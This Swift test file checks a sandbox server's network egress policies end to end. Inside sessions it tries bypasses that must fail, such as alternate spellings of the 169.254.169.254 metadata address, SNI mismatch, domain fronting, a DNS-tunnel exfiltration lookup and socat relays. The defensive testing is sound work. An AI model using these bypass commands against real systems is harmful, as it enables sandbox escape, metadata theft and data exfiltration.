import Foundation
import PaddockTestSupport
import PaddockJSON
import Testing

/// network.md's bypass list, from inside real sessions of a real `paddock serve` (its own
/// nftables table, per-session namespaces and veths, the egress gateway): each way out is
/// tried and must fail, next to a control that shows the same attempt works where the policy
/// allows it. The only outside hosts reachable here are PyPI and Debian's mirror; "some other
/// host on the internet" is ``InternetDouble`` (198.51.100.202), which logs every contact, so a
/// blocked attempt is told apart from one nobody answered.
@Suite("network policies end to end (root, nftables, egress gateway)", .serialized)
struct NetworkPolicyEndToEndTests {
    /// The spellings of the metadata address and of loopback a bypass might use.
    static let deniedSpellings = [
        "169.254.169.254", "2852039166", "0251.0376.0251.0376", "0xa9fea9fe", "169.254.43518", "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]", "127.0.0.1", "2130706433", "0177.0.0.1", "0x7f000001", "127.1", "[::ffff:127.0.0.1]", "[::1]",
    ]

    /// The contacts of `session` in the double's log.
    func contacts(of session: SessionHandle, in world: NetworkWorld) async throws -> [String] {
        let address = try await session.address()
        return world.double.contacts.filter { $0.hasSuffix(" \(address)") }
    }

    // MARK: allowlist: what is allowed works

    @Test("allowlist: pip install six==1.16.0 downloads through the proxy and installs")
    func allowlistPip() async throws {
        let world = try await NetworkWorld.get()
        let result = try await world.allowlist.shell(
            "pip install --no-cache-dir --target /tmp/pip-six six==1.16.0 2>&1 && "
                + "PYTHONPATH=/tmp/pip-six python3 -c 'import six; print(six.__file__, six.__version__)'", timeout: 600)
        #expect(result.exitCode == 0, "\(result)")
        #expect(result.stdout.contains("/tmp/pip-six/six.py 1.16.0"), "\(result)")
        let files: @Sendable (JSONValue) -> Bool = { $0["protocol"] == "connect" && $0["host"] == "files.pythonhosted.org" && $0["port"] == 443 }
        #expect(try await world.allowlist.egress(decision: "allowed", once: files).contains(where: files))
    }

    @Test("allowlist: curl https://pypi.org/simple/six/ works through the proxy and through the transparent path")
    func allowlistCurl() async throws {
        let world = try await NetworkWorld.get()
        let viaProxy = try await world.allowlist.shell("curl -sS -o /dev/null -w '%{http_code}' https://pypi.org/simple/six/")
        #expect(viaProxy.exitCode == 0 && viaProxy.stdout == "200", "\(viaProxy)")
        let direct = try await world.allowlist.shell(
            "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy curl -sS -o /dev/null -w '%{http_code}' https://pypi.org/simple/six/")
        #expect(direct.exitCode == 0 && direct.stdout == "200", "\(direct)")
        let transparent: @Sendable (JSONValue) -> Bool = { $0["protocol"] == "transparent-tls" && $0["host"] == "pypi.org" && $0["port"] == 443 }
        let events = try await world.allowlist.egress(decision: "allowed", once: transparent)
        #expect(events.contains { $0["protocol"] == "connect" && $0["host"] == "pypi.org" })
        #expect(events.contains(where: transparent))
    }

    // MARK: allowlist: every bypass fails

    @Test("allowlist: curl https://deb.debian.org/ gets 403 with x-paddock-deny-reason: host_not_allowed")
    func allowlistDeniedHost() async throws {
        let world = try await NetworkWorld.get()
        let result = try await world.allowlist.shell("curl -sS -v -o /dev/null https://deb.debian.org/ 2>&1")
        #expect(result.exitCode != 0, "\(result)")
        #expect(result.stdout.contains("HTTP/1.1 403"), "\(result)")
        #expect(result.stdout.lowercased().contains("x-paddock-deny-reason: host_not_allowed"), "\(result)")
        // The absolute-URI form (plain HTTP through the proxy) shows the body naming host and policy.
        let http = try await world.allowlist.shell("curl -sS -i http://deb.debian.org/debian/")
        #expect(http.stdout.hasPrefix("HTTP/1.1 403"), "\(http)")
        #expect(http.stdout.lowercased().contains("x-paddock-deny-reason: host_not_allowed"), "\(http)")
        #expect(http.stdout.contains("deb.debian.org") && http.stdout.contains("allowlist"), "\(http)")
        #expect(try await world.allowlist.probe("connect", "deb.debian.org:443") == "403 host_not_allowed")
        // Fronting through a tunnel to an allowed host on port 80: the request inside names another.
        let fronted = try await world.allowlist.shell(
            "curl -sS -o /dev/null -w '%{http_code}' -p --connect-to deb.debian.org:80:pypi.org:80 http://deb.debian.org/debian/")
        #expect(fronted.stdout == "403", "\(fronted)")
    }

    @Test("allowlist: CONNECT pypi.org:22 is 403 port_not_allowed")
    func allowlistDeniedPort() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.probe("connect", "pypi.org:22") == "403 port_not_allowed")
        #expect(try await world.allowlist.probe("connect", "pypi.org:443") == "200 -")
    }

    @Test("allowlist: CONNECT to the address of an allowed host, given as a literal, is refused")
    func allowlistLiteralOfAllowedHost() async throws {
        let world = try await NetworkWorld.get()
        #expect(!world.pypiAddress.isEmpty)
        #expect(try await world.allowlist.probe("connect", "\(world.pypiAddress):443") == "403 host_not_allowed")
    }

    @Test("allowlist: spellings of 169.254.169.254 and 127.0.0.1 are refused by CONNECT, by absolute URI and transparently",
          arguments: deniedSpellings)
    func allowlistDeniedSpellings(_ spelling: String) async throws {
        let world = try await NetworkWorld.get()
        let connect = try await world.allowlist.probe("connect", "\(spelling):80")
        #expect(connect.hasPrefix("403 "), "\(connect)")
        let http = try await world.allowlist.shell("curl -sS -o /dev/null -w '%{http_code}' --max-time 20 'http://\(spelling)/latest/meta-data/'")
        #expect(http.stdout == "403" || http.exitCode != 0, "\(http)")
        #expect(http.stdout != "200", "\(http)")
        if !spelling.hasPrefix("[") {
            let transparent = try await world.allowlist.shell(
                "env -u HTTP_PROXY -u http_proxy curl -sS -o /dev/null -w '%{http_code}' --max-time 20 'http://\(spelling)/latest/meta-data/'")
            #expect(transparent.stdout == "403" || transparent.exitCode != 0, "\(transparent)")
            #expect(transparent.stdout != "200", "\(transparent)")
        }
    }

    @Test("allowlist: TLS to pypi.org's address with SNI deb.debian.org is refused, through CONNECT and transparently")
    func allowlistSNIMismatch() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.probe("connect", "pypi.org:443", "deb.debian.org") == "200 - tls-closed")
        #expect(try await world.allowlist.probe("connect", "pypi.org:443", "pypi.org") == "200 - tls-ok")
        #expect(try await world.allowlist.probe("tls", world.pypiAddress, "443", "deb.debian.org") == "tls-closed")
        #expect(try await world.allowlist.probe("tls", world.pypiAddress, "443", "pypi.org") == "tls-ok")
        let mismatch: @Sendable (JSONValue) -> Bool = { $0["reason"] == "sni_mismatch" }
        #expect(try await world.allowlist.egress(decision: "denied", once: mismatch).contains(where: mismatch))
    }

    @Test("allowlist: a direct TCP connection with the proxy variables unset to a port other than 80/443 gets nowhere")
    func allowlistDirectOtherPort() async throws {
        let world = try await NetworkWorld.get()
        for port in ["22", "8443"] {
            let result = try await world.allowlist.shell(
                "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 \(SessionProbe.path) tcp \(InternetDouble.address) \(port)")
            #expect(!result.stdout.hasPrefix("open"), "\(result)")
        }
        #expect(try await contacts(of: world.allowlist, in: world).isEmpty)
        // The control: where the policy forwards, the same connection reaches the double.
        #expect(try await world.unrestricted.probe("tcp", InternetDouble.address, "22") == "open hello from the internet double")
    }

    @Test("allowlist: UDP reaches nothing: QUIC to 443, a datagram, dig at a public resolver")
    func allowlistUDP() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.probe("udp", InternetDouble.address, "443") == "no-reply")
        #expect(try await world.allowlist.probe("udp", InternetDouble.address, "9999") == "no-reply")
        let dig = try await world.allowlist.shell("dig +time=2 +tries=1 @\(InternetDouble.address) pypi.org A")
        #expect(dig.exitCode != 0, "\(dig)")
        #expect(dig.stdout.contains("timed out") || dig.stdout.contains("no servers"), "\(dig)")
        #expect(try await world.allowlist.probe("dns", InternetDouble.address, "pypi.org") == "no-reply")
        #expect(try await contacts(of: world.allowlist, in: world).isEmpty)
        // The control: an unrestricted session's datagrams leave (its DNS still may not).
        #expect(try await world.unrestricted.probe("udp", InternetDouble.address, "9999") == "reply")
        #expect(try await world.unrestricted.probe("dns", InternetDouble.address, "pypi.org") == "no-reply")
    }

    @Test("allowlist: DNS answers allowed names only; dig of another name is NXDOMAIN and nothing is forwarded")
    func allowlistDNS() async throws {
        let world = try await NetworkWorld.get()
        let gateway = try await world.allowlist.gateway()
        let allowed = try await world.allowlist.probe("dns", gateway, "pypi.org")
        #expect(allowed.hasPrefix("rcode 0 answers ") && !allowed.hasSuffix(" -"), "\(allowed)")
        let dig = try await world.allowlist.shell("dig +time=3 +tries=1 deb.debian.org A")
        #expect(dig.stdout.contains("status: NXDOMAIN"), "\(dig)")
        let tunnel = try await world.allowlist.shell("dig +time=3 +tries=1 c2VjcmV0.exfiltrate.example.com TXT")
        #expect(tunnel.stdout.contains("status: NXDOMAIN"), "\(tunnel)")
        #expect(try await world.allowlist.shell("getent hosts deb.debian.org").exitCode != 0)
        let events = try await world.allowlist.egress()
        let denied = events.filter { $0["protocol"] == "dns" && $0["decision"] == "denied" }
        #expect(denied.contains { $0["host"] == "deb.debian.org" && $0["reason"] == "host_not_allowed" && $0["address"] == .null })
        #expect(denied.contains { $0["host"] == "c2vjcmv0.exfiltrate.example.com" })
    }

    @Test("allowlist: IPv6 of any kind: off inside the session, curl -6 fails")
    func allowlistIPv6() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.shell("cat /proc/sys/net/ipv6/conf/all/disable_ipv6").stdout == "1\n")
        let curl = try await world.allowlist.shell("curl -6 -sS --max-time 10 -o /dev/null https://pypi.org/ 2>&1")
        #expect(curl.exitCode != 0, "\(curl)")
        // An IPv4-mapped address is IPv4 traffic: judged like any other (port 22 is dropped;
        // 80/443 would land on the transparent listener).
        for (target, port) in [("2a04:4e42::223", "443"), ("::1", "443"), ("::ffff:198.51.100.202", "22")] {
            let result = try await world.allowlist.probe("tcp", target, port, "6")
            #expect(!result.hasPrefix("open"), "\(target): \(result)")
        }
        #expect(try await contacts(of: world.allowlist, in: world).isEmpty)
        #expect(try await world.unrestricted.shell("cat /proc/sys/net/ipv6/conf/all/disable_ipv6").stdout == "1\n")
    }

    @Test("the host's API port is out of reach of every session, at the gateway and at the host's own address")
    func hostAPIPort() async throws {
        let world = try await NetworkWorld.get()
        let port = String(world.apiPort)
        for session in [world.allowlist, world.limited, world.unrestricted] {
            let gateway = try await session.gateway()
            var targets = [gateway, "127.0.0.1"]
            if let host = world.hostAddress { targets.append(host) }
            for target in targets {
                let result = try await session.shell(
                    "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 \(SessionProbe.path) tcp \(target) \(port)")
                #expect(!result.stdout.hasPrefix("open"), "\(session.id) → \(target):\(port): \(result)")
            }
            if session.id != world.unrestricted.id {
                let connect = try await session.probe("connect", "\(gateway):\(port)")
                #expect(connect.hasPrefix("403 "), "\(connect)")
            }
        }
        // The control: the server does listen on those addresses.
        if let host = world.hostAddress {
            #expect(try HostCommand.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5",
                                                          "http://\(host):\(port)/healthz"]).output == "200")
        }
    }

    @Test("an address the host gains after the server started is the host's too: no session reaches the API there, not even through the proxy")
    func hostAddressAddedLater() async throws {
        let world = try await NetworkWorld.get()
        let interface = "ptdum\(String(UUID().uuidString.prefix(6)).lowercased())"
        let address = "198.51.100.205"
        // A veth pair (the kernel here may have no dummy driver); the address goes on one end.
        #expect(try HostCommand.run("/usr/sbin/ip", ["link", "add", interface, "type", "veth", "peer", "name", interface + "p"]).status == 0)
        defer { _ = try? HostCommand.run("/usr/sbin/ip", ["link", "delete", interface]) }
        #expect(try HostCommand.run("/usr/sbin/ip", ["addr", "add", "\(address)/32", "dev", interface]).status == 0)
        #expect(try HostCommand.run("/usr/sbin/ip", ["link", "set", interface, "up"]).status == 0)
        try await Task.sleep(for: .milliseconds(1_100))
        let target = "\(address):\(world.apiPort)"
        // Through each session's own gateway proxy (unrestricted sessions reach it too), and directly.
        for session in [world.unrestricted, world.allowlist] {
            let gateway = try await session.gateway()
            let connect = try await session.shell("HTTPS_PROXY=http://\(gateway):3128 python3 \(SessionProbe.path) connect \(target)")
            // Unrestricted allows any host, so only the address check can refuse it.
            let expected = session.id == world.unrestricted.id ? "403 address_denied\n" : "403 host_not_allowed\n"
            #expect(connect.stdout == expected, "\(session.id): \(connect)")
            let direct = try await session.shell(
                "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 \(SessionProbe.path) tcp \(address) \(world.apiPort)")
            #expect(!direct.stdout.hasPrefix("open"), "\(direct)")
        }
        // The control: the API does answer there.
        #expect(try HostCommand.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "5",
                                                      "http://\(target)/healthz"]).output == "200")
    }

    @Test("an unrestricted session's DNS goes nowhere but its responder, also not through the proxy")
    func unrestrictedDNSThroughProxy() async throws {
        let world = try await NetworkWorld.get()
        let gateway = try await world.unrestricted.gateway()
        let result = try await world.unrestricted.shell(
            "HTTPS_PROXY=http://\(gateway):3128 python3 \(SessionProbe.path) connect \(InternetDouble.address):53")
        #expect(result.stdout == "403 port_not_allowed\n", "\(result)")
        #expect(try await contacts(of: world.unrestricted, in: world).allSatisfy { !$0.hasPrefix("tcp 53") })
    }

    @Test("another session's address is out of reach, from a gateway-only and from an unrestricted session")
    func otherSession() async throws {
        let world = try await NetworkWorld.get()
        let neighbour = try await world.neighbour.address()
        let port = String(NetworkWorld.neighbourPort)
        // The control: the neighbour's server answers inside the neighbour.
        let own = try await world.neighbour.shell("env -u HTTP_PROXY -u http_proxy curl -sS -o /dev/null -w '%{http_code}' http://127.0.0.1:\(port)/")
        #expect(own.stdout == "200", "\(own)")
        for session in [world.allowlist, world.unrestricted] {
            let result = try await session.shell(
                "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy python3 \(SessionProbe.path) tcp \(neighbour) \(port)")
            #expect(!result.stdout.hasPrefix("open"), "\(result)")
        }
        #expect(try await world.allowlist.probe("connect", "\(neighbour):\(port)").hasPrefix("403 "))
        let viaHTTP = try await world.allowlist.shell("curl -sS -o /dev/null -w '%{http_code}' --max-time 20 http://\(neighbour):\(port)/")
        #expect(viaHTTP.stdout != "200", "\(viaHTTP)")
    }

    @Test("a relay started inside the session (socat, Python) gets nowhere")
    func relay() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.probe("relay", InternetDouble.address, "22") == "nothing")
        let socat = try await world.allowlist.shell(
            "socat TCP-LISTEN:7022,bind=127.0.0.1,reuseaddr TCP:\(InternetDouble.address):22,connect-timeout=4 & sleep 0.5; "
                + "python3 \(SessionProbe.path) tcp 127.0.0.1 7022; wait")
        #expect(!socat.stdout.contains("hello from the internet double"), "\(socat)")
        #expect(try await contacts(of: world.allowlist, in: world).isEmpty)
        // The control: the same relay in an unrestricted session does reach the double.
        #expect(try await world.unrestricted.probe("relay", InternetDouble.address, "22") == "hello from the internet double")
    }

    // MARK: limited

    @Test("limited without package managers refuses pip install with the proxy's reason; with them, it works")
    func limitedPackageManagers() async throws {
        let world = try await NetworkWorld.get()
        // One retry, so that pip prints why the first attempt failed (the proxy's 403).
        let install = "pip install --no-cache-dir --retries 1 --timeout 20 --target /tmp/pip-six six==1.16.0 2>&1"
        let refused = try await world.limited.shell(install, timeout: 300)
        #expect(refused.exitCode != 0, "\(refused)")
        #expect(refused.stdout.contains("Tunnel connection failed: 403"), "\(refused)")
        #expect(try await world.limited.probe("connect", "pypi.org:443") == "403 host_not_allowed")
        let allowed = try await world.limitedWithManagers.shell(install, timeout: 600)
        #expect(allowed.exitCode == 0, "\(allowed)")
        #expect(try await world.limitedWithManagers.probe("connect", "pypi.org:443") == "200 -")
        // Ports other than 80/443 stay closed even for listed hosts.
        #expect(try await world.limitedWithManagers.probe("connect", "pypi.org:22") == "403 port_not_allowed")
    }

    // MARK: unrestricted

    @Test("unrestricted reaches deb.debian.org but not 169.254.169.254, the host's API or another session")
    func unrestricted() async throws {
        let world = try await NetworkWorld.get()
        let debian = try await world.unrestricted.shell("curl -sS -o /dev/null -w '%{http_code}' --max-time 60 https://deb.debian.org/debian/")
        #expect(debian.exitCode == 0 && ["200", "301", "302"].contains(debian.stdout), "\(debian)")
        for spelling in ["169.254.169.254", "2852039166", "0251.0376.0251.0376", "127.0.0.1"] where spelling != "127.0.0.1" {
            let metadata = try await world.unrestricted.shell("curl -sS -o /dev/null -w '%{http_code}' --max-time 5 http://\(spelling)/")
            #expect(metadata.exitCode != 0 && metadata.stdout != "200", "\(spelling): \(metadata)")
        }
        #expect(!(try await world.unrestricted.probe("tcp", "169.254.169.254", "80")).hasPrefix("open"))
        // Its DNS goes through the responder, which answers (it forwards for unrestricted).
        let gateway = try await world.unrestricted.gateway()
        let answer = try await world.unrestricted.probe("dns", gateway, "deb.debian.org")
        #expect(answer.hasPrefix("rcode 0 answers ") && !answer.hasSuffix(" -"), "\(answer)")
    }

    // MARK: fail closed

    @Test("a policy that cannot be enforced (nft fails) fails the session with a clear error and leaves no network behind")
    func failClosed() async throws {
        let data = try TemporaryDirectory.make()
        let server = try ServerProcess(dataDirectory: data, arguments: ["--nft", "/bin/false"])
        defer { server.finish() }
        let client = APICall(port: server.port, key: server.adminKey)
        for policy in ["unrestricted", "allowlist"] {
            let name = "fail-closed-\(policy)"
            let networking: JSONValue = policy == "unrestricted" ? "unrestricted" : ["type": "allowlist", "domains": ["pypi.org"]]
            let created = try await client.call("POST", "/v1/environments",
                                                ["name": .string(name), "config": ["type": "cloud", "networking": networking]])
            #expect(created.status == 201, "\(created.text)")
            let session = try await client.call("POST", "/v1/sessions", ["environment": .string(name), "wait": true])
            #expect(session["status"] == "failed", "\(session.text)")
            let message = session["error"]?.objectValue?["message"]?.stringValue ?? ""
            #expect(message.contains("nft"), "\(session.text)")
        }
        let namespaces = try HostCommand.run("/usr/sbin/ip", ["netns", "list"]).output
        #expect(!namespaces.contains("paddock-\(server.network.tag)-"), "\(namespaces)")
        let links = try HostCommand.run("/usr/sbin/ip", ["-o", "link"]).output
        #expect(!links.contains(": pd\(server.network.tag)-"), "\(links)")
    }

    @Test("a server stopped with no session left removes its nftables table; with one running, it keeps it")
    func tableOnStop() async throws {
        let data = try TemporaryDirectory.make()
        let server = try ServerProcess(dataDirectory: data)
        defer { server.finish() }
        let client = APICall(port: server.port, key: server.adminKey)
        let table = ["list", "table", "inet", server.network.table]
        let first = try await client.call("POST", "/v1/sessions", ["environment": "default", "wait": true])
        let id = try #require(first["id"]?.stringValue, "\(first.text)")
        #expect(try HostCommand.run("/usr/sbin/nft", table).status == 0)
        // Still running: the table stays for the next start to adopt the session.
        #expect(server.terminate() == 0)
        #expect(try HostCommand.run("/usr/sbin/nft", table).status == 0)
        let second = try ServerProcess(dataDirectory: data)
        defer { second.finish() }
        let again = APICall(port: second.port, key: second.adminKey)
        #expect(try await again.call("GET", "/v1/sessions/\(id)")["status"] == "running")
        #expect(try await again.call("DELETE", "/v1/sessions/\(id)").status == 200)
        #expect(second.terminate() == 0)
        #expect(try HostCommand.run("/usr/sbin/nft", table).status != 0)
    }

    // MARK: configuration and audit

    @Test("the proxy configuration: variables, apt, pip, npm and git; npm, pip and apt-get update print no warning about it")
    func proxyConfiguration() async throws {
        let world = try await NetworkWorld.get()
        let session = world.limitedWithManagers
        let gateway = try await session.gateway()
        let proxy = "http://\(gateway):3128"
        let variables = try await session.shell("env | sort").stdout
        for name in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] {
            #expect(variables.contains("\(name)=\(proxy)\n"), "\(name) in \(variables)")
        }
        #expect(variables.contains("NO_PROXY=") && variables.contains("no_proxy=") && variables.contains("NODE_USE_ENV_PROXY=1"))
        #expect(try await session.shell("git config --get http.proxy").stdout == "\(proxy)\n")
        #expect(try await session.shell("pip config list").stdout.contains("global.proxy='\(proxy)'"))
        #expect(try await session.shell("npm config get https-proxy").stdout == "\(proxy)\n")
        #expect(try await session.shell("apt-config dump Acquire::https::Proxy").stdout.contains(proxy))
        for command in ["npm --version", "pip --version"] {
            let result = try await session.shell("\(command) 2>&1")
            #expect(result.exitCode == 0, "\(command): \(result)")
            #expect(!result.stdout.lowercased().contains("warn"), "\(command): \(result)")
        }
        let update = try await session.shell("apt-get update 2>&1", timeout: 300)
        #expect(update.exitCode == 0, "\(update)")
        #expect(!update.stdout.contains("W:") && !update.stdout.contains("E:"), "\(update)")
    }

    @Test("GET /v1/sessions/{id}/egress lists the attempts with their decision and reason, and /metrics counts them")
    func auditLog() async throws {
        let world = try await NetworkWorld.get()
        #expect(try await world.allowlist.probe("connect", "deb.debian.org:443") == "403 host_not_allowed")
        #expect(try await world.allowlist.probe("connect", "pypi.org:22") == "403 port_not_allowed")
        #expect(try await world.allowlist.probe("connect", "169.254.169.254:80").hasPrefix("403 "))
        #expect(try await world.allowlist.shell("curl -sS -o /dev/null https://pypi.org/simple/six/").exitCode == 0)
        let events = try await world.allowlist.egress()
        func has(_ host: String, _ port: Int, _ decision: String, _ reason: JSONValue) -> Bool {
            events.contains { $0["host"] == .string(host) && $0["port"] == .number(JSONNumber(port))
                && $0["decision"] == .string(decision) && $0["reason"] == reason }
        }
        #expect(has("deb.debian.org", 443, "denied", "host_not_allowed"))
        #expect(has("pypi.org", 22, "denied", "port_not_allowed"))
        #expect(has("pypi.org", 443, "allowed", .null))
        let allowed = try #require(events.last { $0["host"] == "pypi.org" && $0["decision"] == "allowed" && $0["protocol"] == "connect" })
        #expect((allowed["bytes_down"]?.numberValue?.intValue ?? 0) > 0, "\(allowed)")
        #expect(allowed["address"]?.stringValue?.isEmpty == false)
        // Another session's events never show in this one's log.
        #expect(events.allSatisfy { $0["session_id"] == nil || $0["session_id"] == .string(world.allowlist.id) })
        let metrics = try await world.allowlist.client.call("GET", "/metrics").text
        #expect(metrics.contains(#"paddock_egress_attempts_total{protocol="connect",decision="denied"}"#), "\(metrics)")
    }
}
